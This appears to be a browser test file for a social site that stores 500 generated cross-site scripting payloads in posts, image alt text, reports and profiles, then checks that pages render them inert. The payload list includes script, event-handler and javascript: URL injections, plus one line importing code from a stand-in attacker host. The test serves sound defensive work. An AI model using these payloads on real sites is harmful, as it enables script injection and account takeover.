"""500 attempts to smuggle a script through what members write: no dialog opens, and the policy has nothing to refuse."""

from functools import partial
from itertools import islice, product

import pytest
from playwright.sync_api import Page, Route

from metya.wallets import roles
from social.moderation import actions as moderation
from social.posts import actions as posts
from social.posts.models import PostImage
from social.profiles.actions import edit
from social.profiles.models import Profile
from tests import make

pytestmark = pytest.mark.browser

RUN = ("alert(1)", "confirm`1`", "window.ran=1", "top['al'+'ert'](1)", "import('//evil.example/x.js')")
CARRIERS = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<script src=data:,{}></script>", "<img src=x onerror={}>",
    "<img/src=`x`/onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg/onload={}//",
    "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>", "<a href='java\tscript:{}'>x</a>", "[x](javascript:{})",
    "javascript:{}//https://example.com", "<math><mi xlink:href=javascript:{}>", "<details open ontoggle={}>",
    "<input autofocus onfocus={}>", "<video><source onerror={}>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<form action=javascript:{}><button>x</form>", "<style>@import 'javascript:{}'</style>",
    "<link rel=stylesheet href=javascript:{}>", "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<base href=javascript:{}//>", "https://example.com/'onmouseover='{}", 'https://example.com/"onfocus="{}"autofocus="',
    "https://example.com/<script>{}</script>", "http://javascript:{}@example.com/", "@alice'onclick='{}",
    '#tag"onclick="{}', "<template><script>{}</script></template>", "&lt;script&gt;{}&lt;/script&gt;",
    "{{{{constructor.constructor('{}')()}}}}", "<p hx-on:load={}>", "<div hx-get=/ hx-trigger=load hx-on::after={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "--><script>{}</script><!--", "]]><script>{}</script>",
)  # fmt: skip
BREAKS = ("{}", '">{}', "'>{}</textarea></title>")
PAYLOADS = [way.format(carrier.format(run)) for way, run, carrier in islice(product(BREAKS, RUN, CARRIERS), 500)]
WATCH = """
  window.refused = [];
  document.addEventListener("securitypolicyviolation", (e) => window.refused.push(`${e.violatedDirective} ${e.blockedURI}`));
"""


def watched(page: Page) -> list[str]:
    """What opens on the page as a dialog, as it comes."""
    opened: list[str] = []

    def close(dialog) -> None:
        opened.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", close)
    page.add_init_script(WATCH)
    return opened


LOOK = """() => {
  const all = [...document.querySelectorAll("main *")];
  for (const one of all) one.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
  const made = (one) => one.matches("script, iframe, object, embed, base, meta, style");
  const runs = ({ name, value }) => /^on|^hx-on/i.test(name)
    || (/href|src|action|data$/i.test(name) && /^\\s*(javascript|data):/i.test(value));
  const bad = all.filter((one) => made(one) || [...one.attributes].some(runs)).map((one) => one.outerHTML.slice(0, 200));
  return { ran: window.ran, refused: window.refused, bad };
}"""


def harmless(page: Page, opened: list[str]) -> None:
    """Nothing ran, nothing was refused, and no element or attribute is there that could run anything."""
    assert page.evaluate(LOOK) == {"ran": None, "refused": [], "bad": []} and not opened, page.url


@pytest.fixture
def poisoned(alice, bob, mona):
    """Alice wrote all of them, with pictures so described; as many members have them as name and description and follow bob;
    bob reported each."""
    assert len(set(PAYLOADS)) == 500
    pictures = []
    for text in PAYLOADS:
        post = posts.publish(actor=alice, text=text)
        pictures.append(PostImage(post=post, member=post.author, file="posts/x.webp", width=8, height=8, alt=text))
        moderation.report(actor=bob, member=alice, post=post, rule="spam", note=text)
    PostImage.objects.bulk_create(pictures)
    for number, text in enumerate(PAYLOADS[:100]):
        person = make.member(f"person{number}")
        edit(actor=person, name=text[:60].replace("\t", " "), bio=text)
        make.follow(person, bob)
    return Profile.objects.exclude(bio="").select_related("member")


def test_what_members_write_stays_text(live_site, alice, bob, poisoned):
    page = live_site.browser_of(alice).new_page()
    opened = watched(page)
    page.route("**/media/**", lambda route: route.fulfill(status=200, content_type="image/webp", body=b""))
    for path in ("/explore/", "/@bob/followers/"):
        page.goto(path)
        seen = 1
        while page.locator("main p.more a", has_text="Load more").count():
            harmless(page, opened)
            page.goto(path + page.locator("main p.more a", has_text="Load more").get_attribute("href"))
            seen += 1
        harmless(page, opened)
        assert seen >= 5
    for profile in list(poisoned)[::10]:
        page.goto(profile.member.get_absolute_url())
        harmless(page, opened)
    for post in alice.posts.order_by("pk")[::50]:
        for path in (post.get_absolute_url(), f"/posts/new/?quote_of={post.pk}"):
            page.goto(path)
            harmless(page, opened)


def test_what_is_refused_comes_back_as_text(live_site, alice, db):
    """The composer and the settings show again what was typed."""
    page = live_site.browser_of(alice).new_page()
    opened = watched(page)
    for text in PAYLOADS[::25]:
        page.goto("/posts/new/")
        page.locator("#composer textarea[name=text]").fill(text + "x" * 1000)
        page.locator("#composer .tools button.btn").click()
        page.locator("#composer .errorlist").wait_for()
        harmless(page, opened)


def test_what_is_reported_stays_text_for_moderators(live_site, mona, poisoned, as_member, settings):
    """The admin's own pages, with their own policy, as the browser of a moderator would show them."""
    settings.DEMO = True  # the second factor before the admin is tested with the wallets
    roles.sync()
    type(mona).objects.filter(pk=mona.pk).update(is_demo=True)
    page = live_site.visitor().new_page()
    opened = watched(page)
    staff = as_member(mona)
    for number in range(1, 11):
        answer = staff.get(f"/admin/social/report/?p={number}")
        assert answer.status_code == 200 and answer.content.count(b"field-complaint") == 50
        headers = {"Content-Type": "text/html", "Content-Security-Policy": answer["Content-Security-Policy"]}
        page.route("**/reports/", partial(Route.fulfill, body=answer.content, headers=headers))
        page.goto("/reports/")
        assert page.evaluate("[window.ran, window.refused]") == [None, []] and not opened
        page.unroute("**/reports/")
